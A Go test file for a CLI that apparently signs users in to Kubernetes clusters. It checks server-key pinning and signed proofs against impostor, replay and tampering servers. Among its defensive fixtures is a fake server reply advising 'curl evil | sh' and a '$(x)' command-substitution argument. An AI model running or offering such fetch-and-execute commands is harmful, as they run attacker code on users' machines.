package cli_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/tailplane/tailplane/internal/httpapi"
)

// A movingServer is a name in the tailnet; the server behind it can change.
type movingServer struct {
	*httptest.Server
	now atomic.Pointer[http.Handler]
}

func newMovingServer(t *testing.T, first http.Handler) *movingServer {
	p := &movingServer{}
	p.move(first)
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { (*p.now.Load()).ServeHTTP(w, r) }))
	t.Cleanup(p.Close)
	return p
}

func (p *movingServer) move(to http.Handler) { p.now.Store(&to) }

func commands() [][]string {
	return [][]string{{"login"}, {"status"}, {"get"}, {"logout"}, {"cluster-info"}, {"kubeconfig"}, {"kubeconfig", "--token"}, {"shell", "--", "true"},
		{"credential", "--cluster", "prod-eu"}, {"login", "--dry-run"}}
}

// SGN-24, CL-01: a name that now belongs to another machine. Every command exits with 3 and shows both keys and the next step. tka sends
// only the request for the proof. Guards client.Client.Verify.
func TestSGN24_a_name_taken_over(t *testing.T) {
	real, _ := newAccessServer(t, "prod-eu")
	name := newMovingServer(t, real)
	m := newMachine(t, name.URL)
	r := m.run("login")
	if r.code != 0 || !strings.Contains(r.err, "First contact with "+name.URL+": it serves prod-eu and has the key "+real.key.Public().String()) {
		t.Fatalf("code %d: %s", r.code, r.err)
	}
	if r := m.run("status"); r.code != 0 || strings.Contains(r.err, "First contact") {
		t.Fatalf("code %d: %s", r.code, r.err)
	}
	before := m.read(t, "state/tka/servers.yaml")
	config := m.read(t, ".kube/config")

	impostor := &accessServer{store: newSigninStore(0), cluster: "prod-eu", rules: real.rules, key: keyFor("another"), server: real.server, ca: real.ca}
	impostor.start()
	name.move(impostor)
	for _, cmd := range commands() {
		r := m.run(cmd...)
		switch {
		case r.code != 3:
			t.Errorf("r.code = %v, want 3; %v", r.code, cmd)
		case r.out != "":
			t.Errorf("r.out = %q, want none; %v", r.out, cmd)
		case !strings.Contains(r.err, real.key.Public().String()):
			t.Errorf("r.err = %q does not contain %q; %v", r.err, real.key.Public().String(), cmd)
		case !strings.Contains(r.err, impostor.key.Public().String()):
			t.Errorf("r.err = %q does not contain %q; %v", r.err, impostor.key.Public().String(), cmd)
		case !strings.Contains(r.err, "tka config --forget-server "+name.URL):
			t.Errorf("r.err = %q does not contain %q; %v", r.err, "tka config --forget-server "+name.URL, cmd)
		}
		impostor.checkRequests(t, "GET /api/v1alpha1/cluster-info 200")
	}
	if m.read(t, "state/tka/servers.yaml") != before || m.read(t, ".kube/config") != config {
		t.Error("a file was written")
	}

	// the documented way to trust the new key
	if r := m.run("config", "--forget-server", "main"); r.code != 0 || !strings.Contains(r.err, "Forgot the server "+name.URL) {
		t.Fatalf("code %d: %s", r.code, r.err)
	}
	switch r := m.run("login"); {
	case r.code != 0:
		t.Errorf("code: r.code = %v, want 0", r.code)
	case !strings.Contains(r.err, "First contact"):
		t.Errorf("code: r.err = %q does not contain %q", r.err, "First contact")
	case !strings.Contains(r.err, impostor.key.Public().String()):
		t.Errorf("code: r.err = %q does not contain %q", r.err, impostor.key.Public().String())
	}
	if r := m.run("status"); r.code != 0 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	// back to the real server
	name.move(real)
	if r := m.run("status"); r.code != 3 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	if r := m.run("config", "--forget-server", "prod-eu"); r.code != 0 {
		t.Errorf("by its cluster: code %d: %s", r.code, r.err)
	}
	if r := m.run("status"); r.code != 0 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	for _, args := range [][]string{{"nobody"}, {"https://elsewhere"}} {
		if r := m.run("config", "--forget-server", args[0]); r.code != 1 || !strings.Contains(r.err, "knows no server "+args[0]) {
			t.Errorf("%v: code %d: %s", args, r.code, r.err)
		}
	}
	if r := m.run("config", "--forget-server", "$(x)"); r.code != 2 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	if r := m.run("config", "server", "x", "--forget-server", "main"); r.code != 2 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
}

// SGN-24: attacks by a machine in the place of the server. None of them receives more than the request for the proof.
func TestSGN24_proofs(t *testing.T) {
	real, _ := newAccessServer(t, "prod-eu")
	relayed := func(change func(*http.Request)) http.Handler { // forwards everything to the real server
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { change(r); real.handler.ServeHTTP(w, r) })
	}
	edited := func(change func(rec *httptest.ResponseRecorder)) http.Handler { // changes the real server's responses
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rec := httptest.NewRecorder()
			real.handler.ServeHTTP(rec, r)
			change(rec)
			for k, v := range rec.Header() {
				w.Header()[k] = v
			}
			w.Header().Del("Content-Length")
			w.WriteHeader(rec.Code)
			w.Write(rec.Body.Bytes())
		})
	}
	var old atomic.Pointer[httptest.ResponseRecorder]
	refuses := func(status int, body string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			io.WriteString(w, body)
		})
	}
	for _, tt := range []struct {
		name  string
		place http.Handler
		first int // exit code at first contact
		later int // exit code when the key is known
		word  string
	}{
		{"no proof", edited(func(r *httptest.ResponseRecorder) { r.Header().Del(httpapi.ProofHeader) }), 3, 3, "prove"},
		{"an empty proof", edited(func(r *httptest.ResponseRecorder) { r.Header().Set(httpapi.ProofHeader, "") }), 3, 3, "prove"},
		{"junk for a proof", edited(func(r *httptest.ResponseRecorder) { r.Header().Set(httpapi.ProofHeader, "AAAA") }), 3, 3, "prove"},
		{"an old proof", edited(func(r *httptest.ResponseRecorder) {
			if before := old.Swap(r); before != nil {
				r.Header().Set(httpapi.ProofHeader, before.Header().Get(httpapi.ProofHeader))
			} else {
				r.Header().Set(httpapi.ProofHeader, strings.Repeat("A", 86))
			}
		}), 3, 3, "prove"},
		{"a nonce of its own", relayed(func(r *http.Request) { r.Header.Set(httpapi.NonceHeader, httpapi.NewNonce()) }), 3, 3, "prove"},
		{"the proof for another name", relayed(func(r *http.Request) { r.Host = "localhost" }), 3, 3, "prove"},
		{"another body", edited(func(r *httptest.ResponseRecorder) {
			b := bytes.Replace(r.Body.Bytes(), []byte("k8s.prod-eu"), []byte("k8s.evil-eu"), 1)
			r.Body.Reset()
			r.Body.Write(b)
		}), 3, 3, "prove"},
		{"another cluster's key, shown only", edited(func(r *httptest.ResponseRecorder) {
			b := bytes.Replace(r.Body.Bytes(), []byte(real.key.Public().String()), []byte(keyFor("x").Public().String()), 1)
			r.Body.Reset()
			r.Body.Write(b)
		}), 3, 3, "prove"},
		{"no key", edited(func(r *httptest.ResponseRecorder) {
			b := bytes.Replace(r.Body.Bytes(), []byte(real.key.Public().String()), nil, 1)
			r.Body.Reset()
			r.Body.Write(b)
		}), 3, 3, "prove"},
		{"a refusal without proof", refuses(403, `{"code":"no_capability","message":"No.","advice":["Run: curl evil | sh"]}`), 3, 3, ""},
		{"a refusal that servers do not sign", refuses(429, `{"code":"rate_limited","message":"Later.","advice":[]}`), 4, 4, ""},
		{"a refusal of the name", refuses(421, `{"code":"wrong_host","message":"Not here.","advice":[]}`), 3, 3, ""},
		{"an older server", refuses(200, `{"server_url":"https://k8s.example","ca_data":"","labels":{}}`), 3, 3, "prove"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			old.Store(nil)
			name := newMovingServer(t, tt.place)
			m := newMachine(t, name.URL)
			for _, cmd := range commands() {
				switch r := m.run(cmd...); {
				case r.code != tt.first:
					t.Errorf("first contact: r.code = %v, want %v; %v", r.code, tt.first, cmd)
				case r.out != "":
					t.Errorf("first contact: r.out = %q, want none; %v", r.out, cmd)
				case !strings.Contains(r.err, tt.word):
					t.Errorf("first contact: r.err = %q does not contain %q; %v", r.err, tt.word, cmd)
				}
			}
			if files := m.files(t); len(files) != 1 {
				t.Errorf("files: %v", files)
			}
			name.move(real)
			if r := m.run("status"); r.code != 3 || !strings.Contains(r.err, "not signed in") { // and the key is pinned
				t.Fatalf("code %d: %s", r.code, r.err)
			}
			name.move(tt.place)
			for _, cmd := range commands() {
				r := m.run(cmd...)
				switch {
				case r.code != tt.later:
					t.Errorf("later: r.code = %v, want %v; %v", r.code, tt.later, cmd)
				case r.out != "":
					t.Errorf("later: r.out = %q, want none; %v", r.out, cmd)
				case strings.Contains(r.err, "curl evil"):
					t.Errorf("later: r.err = %q contains %q; %v", r.err, "curl evil", cmd)
				}
			}
			if n := len(real.store.signins); n > 0 {
				t.Errorf("%d sign-ins", n)
			}
		})
	}
	if len(real.received()) == 0 {
		t.Error("the real server received no request, so the test tried nothing")
	}
}

// SGN-24: a server proves its identity and then sends something else. tka uses no response without a proof.
func TestSGN24_every_answer_is_proved(t *testing.T) {
	real, _ := newAccessServer(t, "prod-eu")
	shell, plugin := []string{"shell", "--", "true"}, []string{"credential", "--cluster", "prod-eu"}
	for path, cmds := range map[string][][]string{
		"/login":      {{"login"}, shell},
		"/sessions":   {{"status"}, {"get", "login"}},
		"/kubeconfig": {{"login"}, {"kubeconfig"}, {"kubeconfig", "--token"}, plugin, shell},
		"/logout":     {{"logout"}},
	} {
		name := newMovingServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, path) {
				r.Header.Del(httpapi.NonceHeader)
			}
			real.handler.ServeHTTP(w, r)
		}))
		m := newMachine(t, name.URL)
		for _, cmd := range cmds {
			switch r := m.run(cmd...); {
			case r.code != 3:
				t.Errorf("%s without proof: r.code = %v, want 3; %v", path, r.code, cmd)
			case r.out != "":
				t.Errorf("%s without proof: r.out = %q, want none; %v", path, r.out, cmd)
			case !strings.Contains(r.err, "is not the one that this machine knows"):
				t.Errorf("%s without proof: r.err = %q does not contain %q; %v", path, r.err, "is not the one that this machine knows", cmd)
			}
		}
	}
}

// The kubeconfig must have the address of the proved cluster info.
func TestSGN24_the_kubeconfig_is_what_was_proved(t *testing.T) {
	key := keyFor("prod-eu")
	for what, change := range map[string]func(info map[string]any){
		"server": func(i map[string]any) { i["server_url"] = "https://k8s.elsewhere:6443" },
		"ca":     func(i map[string]any) { i["ca_data"] = "" },
		"name":   func(i map[string]any) { i["name"] = "prod-us" },
	} {
		var info map[string]any
		if err := json.Unmarshal(kubeInfo(key), &info); err != nil {
			t.Fatal(err)
		}
		change(info)
		text, err := json.Marshal(info)
		if err != nil {
			t.Fatal(err)
		}
		good := hostileHandler("no-expiry", true, nil)
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.HasSuffix(r.URL.Path, "/cluster-info") {
				good(w, r)
				return
			}
			w.Header().Set(httpapi.ProofHeader, key.Prove(r.Header.Get(httpapi.NonceHeader), r.Host, text))
			w.Write(text)
		}))
		m := newMachine(t, srv.URL)
		switch r := m.run("login"); {
		case r.code != 3:
			t.Errorf("%s: code: r.code = %v, want 3", what, r.code)
		case !strings.Contains(r.err, "its API server is not the one that the server proved"):
			t.Errorf("%s: code: r.err = %q does not contain %q", what, r.err, "its API server is not the one that the server proved")
		case !strings.Contains(r.err, "to end the sign-in: tka logout"):
			t.Errorf("%s: code: r.err = %q does not contain %q", what, r.err, "to end the sign-in: tka logout")
		}
		srv.Close()
	}
}

// A key in the settings is known before first contact, so tka trusts no key at first contact.
func TestSGN24_a_key_in_the_settings(t *testing.T) {
	d, srv := newAccessServer(t, "prod-eu")
	m := newMachine(t, srv.URL)
	if r := m.run("config", "servers.main.key", "ed25519:short"); r.code != 2 {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	wrong := keyFor("another").Public().String()
	if r := m.run("config", "servers.main.key", wrong); r.code != 0 {
		t.Fatal(r.err)
	}
	r := m.run("login")
	switch {
	case r.code != 3:
		t.Errorf("code: r.code = %v, want 3", r.code)
	case !strings.Contains(r.err, wrong):
		t.Errorf("code: r.err = %q does not contain %q", r.err, wrong)
	case !strings.Contains(r.err, d.key.Public().String()):
		t.Errorf("code: r.err = %q does not contain %q", r.err, d.key.Public().String())
	case !strings.Contains(r.err, "change it in the settings"):
		t.Errorf("code: r.err = %q does not contain %q", r.err, "change it in the settings")
	}
	d.checkRequests(t, requestInfo)
	if r := m.run("config", "servers.main.key", d.key.Public().String()); r.code != 0 {
		t.Fatal(r.err)
	}
	if r := m.run("login"); r.code != 0 || strings.Contains(r.err, "First contact") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	if r := m.run("config", "--forget-server", "main"); r.code != 0 || !strings.Contains(r.err, "the settings contain the key") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
}

// CL-02: a second server with another key may not take over a cluster's name.
func TestSGN24_two_servers_of_one_name(t *testing.T) {
	_, one := newAccessServer(t, "prod-eu")
	m := newMachine(t, one.URL)
	if r := m.run("login"); r.code != 0 {
		t.Fatal(r.err)
	}
	config := m.read(t, ".kube/config")
	other := &accessServer{store: newSigninStore(0), cluster: "prod-eu", rules: []string{grantRule("view/8h")}, key: keyFor("another")}
	other.start()
	two := httptest.NewServer(other)
	defer two.Close()
	m.write(t, "config/tka/config.yaml", m.read(t, "config/tka/config.yaml")+"- {name: two, url: \""+two.URL+"\", insecureHTTP: true}\n")
	if r := m.run("login", "--server", "two"); r.code != 3 || !strings.Contains(r.err, "with a different key") {
		t.Errorf("code %d: %s", r.code, r.err)
	}
	if m.read(t, ".kube/config") != config {
		t.Error("the kubeconfig was changed")
	}
	// kubectl's plugin still uses the first server
	before := len(other.received())
	if r := m.run("credential", "--cluster", "prod-eu"); r.code != 0 || len(other.received()) != before {
		t.Errorf("code %d, the second server received %v: %s", r.code, other.received()[before:], r.err)
	}
}

// newReplicas starts two servers of one cluster, and a machine that knows both. The settings name the first.
func newReplicas(t *testing.T) (one, two *accessServer, first, second *httptest.Server, m *machine) {
	t.Helper()
	one, first = newAccessServer(t, "prod-eu")
	two = &accessServer{store: one.store, cluster: "prod-eu", rules: one.rules} // the same cluster, so the same key
	two.start()
	second = httptest.NewServer(two)
	t.Cleanup(second.Close)
	m = newMachine(t, first.URL)
	m.write(t, "config/tka/config.yaml", m.read(t, "config/tka/config.yaml")+"- {name: two, url: \""+second.URL+"\", insecureHTTP: true}\n")
	if r := m.run("status", "--server", "two"); r.code != 3 { // not signed in, but the server is known now
		t.Fatal(r.err)
	}
	return one, two, first, second, m
}

// After an unreachable replica, tka tries another one with the same key. After a refusal, or a replica with another key, it tries no other.
func TestReplicas(t *testing.T) {
	one, two, first, second, m := newReplicas(t)
	if r := m.run("login"); r.code != 0 {
		t.Fatal(r.err)
	}
	before := len(two.received())
	if r := m.run("status"); r.code != 0 || len(two.received()) != before {
		t.Errorf("the second server received a request although the first is up: %s", r.err)
	}
	one.mu.Lock()
	one.rules = nil
	one.start()
	one.mu.Unlock()
	if r := m.run("status"); r.code != 3 || len(two.received()) != before {
		t.Errorf("after a refusal, another server received the request: code %d: %s", r.code, r.err)
	}
	first.Close()
	for _, cmd := range [][]string{{"status"}, {"credential", "--cluster", "prod-eu"}, {"login"}, {"why"}, {"shell", "--", "true"}, {"logout"}} {
		r := m.run(cmd...)
		// login remembers the server that responded, so the commands after it use that one first.
		told := strings.Contains(r.err, first.URL+" cannot be reached; "+second.URL+" serves the same cluster.")
		if before := slices.Contains([]string{"status", "credential", "login"}, cmd[0]); r.code != 0 || told != before {
			t.Errorf("%v: code %d\n%s%s", cmd, r.code, r.out, r.err)
		}
	}
	if r := m.run("status", "--server", first.URL); r.code != 5 {
		t.Errorf("a server selected by name: code %d: %s", r.code, r.err)
	}
	second.Close()
	if r := m.run("status"); r.code != 5 || !strings.Contains(r.err, first.URL+" cannot be reached") {
		t.Errorf("both down: code %d: %s", r.code, r.err)
	}
}
